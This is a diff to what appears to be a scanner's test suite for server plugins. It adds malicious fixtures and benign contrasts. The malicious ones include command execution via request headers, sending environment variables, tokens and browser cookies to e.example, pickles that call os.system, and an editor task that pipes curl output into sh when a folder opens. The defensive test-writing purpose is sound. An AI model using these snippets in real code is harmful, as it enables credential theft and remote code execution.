@@ -50,6 +50,45 @@ describe('the checks hold', () => {
     ['a handler that serves any file', handler('return web.FileResponse(request.query["path"])')],
     ['a handler that reads any file', handler('return web.Response(body=open(request.query["path"], "rb").read())')],
     ['a handler that writes any file', handler('open((await request.json())["path"], "w").write("a")')],
+    [
+      'a middleware that runs what a request says',
+      'import subprocess, server\nasync def f(request, handler):\n    return subprocess.getoutput(request.headers["a"])\nserver.PromptServer.instance.app.middlewares.append(f)\n',
+    ],
+    ['serving all files', 'from server import PromptServer\nPromptServer.instance.app.router.add_static("/a", "/")\n'],
+    [
+      'searching all files of the user',
+      'class A:\n    def run(self):\n        import glob, os\n        return glob.glob(os.path.expanduser("~/**/*.env"), recursive=True)\n',
+    ],
+    [
+      'the variables of a loop over the environment',
+      'class A:\n    def run(self):\n        import os, requests\n        d = {}\n        for k in os.environ: d[k] = os.environ[k]\n        requests.post("https://e.example/", json=d)\n',
+    ],
+    [
+      'a stored token that is sent elsewhere',
+      'class A:\n    def run(self):\n        import huggingface_hub, requests\n        requests.get("https://e.example/?" + huggingface_hub.get_token())\n',
+    ],
+    ['the clipboard at import', 'import pyperclip\npyperclip.copy("a")\n'],
+    [
+      'a script that is written and sends cookies',
+      'class A:\n    def run(self):\n        open("web/a.js", "w").write("fetch(\'https://e.example/?\' + document.cookie)")\n',
+    ],
+    [
+      'the next value of an enumeration',
+      'import enum, os\nclass E(enum.Enum):\n    def _generate_next_value_(a, b, c, d): return os.system("a")\n    A = enum.auto()\n',
+    ],
+    ['a pickle that calls a function', { '__init__.py': '', 'a.pkl': "cposix\nsystem\n(S'a'\ntR." }],
+    [
+      'a pickle that calls a function, in the newer form',
+      { '__init__.py': '', 'a.pickle': '\x80\x04\x8c\x0asubprocess\x94\x8c\x05Popen\x94\x93' },
+    ],
+    [
+      'a task that an editor runs',
+      {
+        '__init__.py': '',
+        '.vscode/tasks.json':
+          '{"tasks": [{"command": "curl https://e.example/ | sh", "runOptions": {"runOn": "folderOpen"}}]}',
+      },
+    ],
     ['ending the parent process', 'import os\nos.kill(os.getppid(), 9)\n'],
     ['ending other programs', 'import psutil\nfor p in psutil.process_iter():\n    p.kill()\n'],
     [
@@ -147,6 +186,21 @@ describe('the checks do not hold', () => {
         '__init__.py': '',
         'web/a.html': '<script src="https://e.example/a.js"></script><script>localStorage.a = 1;</script>',
       },
+    ],
+    [
+      'the stored token for its service',
+      'class A:\n    def run(self):\n        import huggingface_hub, requests\n        requests.get("https://huggingface.co/a", headers={"a": huggingface_hub.get_token()})\n',
+    ],
+    ['serving its own folder', 'import os, server\nserver.app.router.add_static("/a", os.path.dirname(__file__))\n'],
+    ['a script that is written', 'open("web/a.js", "w").write("export const version = 1;")\n'],
+    ['a pickle of data', { '__init__.py': '', 'a.pkl': 'ccollections\nOrderedDict\n(lp0\ntR.' }],
+    [
+      'a camera of a node',
+      'class A:\n    def run(self):\n        import cv2, pyperclip\n        pyperclip.copy("a")\n        return cv2.VideoCapture(0).read()\n',
+    ],
+    [
+      'a task of an editor',
+      { '__init__.py': '', '.vscode/tasks.json': '{"tasks": [{"command": "npm run build", "type": "shell"}]}' },
     ],
     ['a file of settings', { '__init__.py': '', 'a.ini': '[a]\nrun = os.system\nargs=(sys.stdout,)\n' }],
   ])('%s', async (_what, files) => expect(await levelOf(files)).not.toBe('hold'));
